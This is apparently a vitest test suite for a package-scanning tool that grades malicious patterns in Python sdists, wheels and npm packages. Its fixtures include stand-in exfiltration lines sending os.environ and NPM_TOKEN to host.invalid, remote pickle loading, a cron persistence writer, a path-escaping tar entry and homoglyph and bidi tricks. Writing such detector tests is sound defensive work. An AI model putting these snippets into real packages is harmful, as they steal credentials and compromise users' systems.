import { describe, expect, it } from 'vitest';
import { npmPackage, sdist, wheel } from '../builders/package.ts';
import { tar } from '../builders/tar.ts';
import { weighFiles } from '../builders/weigh-files.ts';

const GRAVE = new Set(['medium', 'high', 'critical']);
const RECEIVED =
  'import pickle, requests\ndef test_it(): pickle.loads(requests.get("https://host.invalid/x").content)\n';
const ON_IMPORT =
  'import pickle, requests\npickle.loads(requests.get("https://host.invalid/x").content)\n';
const TURNED = '# \u202e begin\nx = 1\n';
const CRON = `def main():
  with open('/etc/cron.d/colorkit', 'w') as f:
    f.write('* * * * * root true')
if __name__ == '__main__':
  main()
`;
const EVIL = tar({ entries: [{ name: '../../a', data: 'x' }] });

async function rules(name: string, bytes: Uint8Array): Promise<readonly string[]> {
  const { findings } = await weighFiles({ [name]: bytes });
  return [...new Set(findings.map(({ rule, severity }) => `${severity} ${rule}`))];
}

const inSdist = async (
  files: Readonly<Record<string, string | Uint8Array>>,
): Promise<readonly string[]> =>
  rules('colorkit-1.0.tar.gz', sdist({ 'colorkit/__init__.py': '', ...files }));

describe('what stands among the tests of a package', () => {
  it.each([
    ['low unsafe-deserialization/sample-load', { 'tests/test_a.py': RECEIVED }],
    ['low import-behaviour/turned-sample', { 'tests/unicode.py': TURNED }],
    ['low concealed-code/lookalike-sample', { 'tests/names.py': 'def еval(x): pass\n' }],
    ['low member-paths/sample-archive', { 'tests/bad.tar': EVIL }],
  ])('is no alarm: %s', async (rule, files) => {
    const found = await inSdist(files);

    expect(found).toContain(rule);
    expect(found.filter((each) => GRAVE.has(each.split(' ')[0] ?? ''))).toEqual([]);
  });

  it.each([
    ['critical unsafe-deserialization/received-program', { 'colorkit/a.py': RECEIVED }],
    ['critical unsafe-deserialization/received-program', { 'tests/helper.py': ON_IMPORT }],
    ['high import-behaviour/turned-text', { 'colorkit/unicode.py': TURNED }],
    ['high concealed-code/lookalike-name', { 'colorkit/names.py': 'def еval(x): pass\n' }],
    ['high member-paths/path-escape', { 'colorkit/bad.tar': EVIL }],
    ['high import-behaviour/persistence', { 'setup.py': CRON }],
  ])('is an alarm where users run it: %s', async (rule, files) => {
    expect(await inSdist(files)).toContain(rule);
  });

  it('is an alarm when setup.py, __init__ or an install script runs it', async () => {
    const steals = `import os, requests\ndef go(): requests.post('https://host.invalid/c', json=dict(os.environ))\n`;
    const bySetup = await inSdist({
      'setup.py': 'import setuptools\nfrom tests.helper import go\ngo()\nsetuptools.setup()\n',
      'tests/__init__.py': '',
      'tests/helper.py': steals,
    });
    const byImport = await rules(
      'colorkit-1.0-py3-none-any.whl',
      wheel({
        files: {
          'colorkit/__init__.py': 'from .tests.helper import go\ngo()\n',
          'colorkit/tests/__init__.py': '',
          'colorkit/tests/helper.py': steals,
        },
      }),
    );
    const byScript = await rules(
      'color-kit-1.0.0.tgz',
      npmPackage(
        { 'test/x.js': `require('https').get('https://host.invalid/?t=' + process.env.NPM_TOKEN)` },
        { scripts: { postinstall: 'node test/x.js' } },
      ),
    );

    for (const found of [bySetup, byImport, byScript])
      expect(
        found.filter((rule) => /^(?:critical|high) install-behaviour\//.test(rule)),
      ).not.toEqual([]);
  });

  it('leaves a module that users run by its name to them', async () => {
    const files = { 'colorkit/__init__.py': '', 'colorkit/cron.py': CRON };
    const found = await rules('colorkit-1.0-py3-none-any.whl', wheel({ files }));

    expect(found).toContain('low import-behaviour/persistence-later');
    expect(found.filter((each) => GRAVE.has(each.split(' ')[0] ?? ''))).toEqual([]);
  });
});
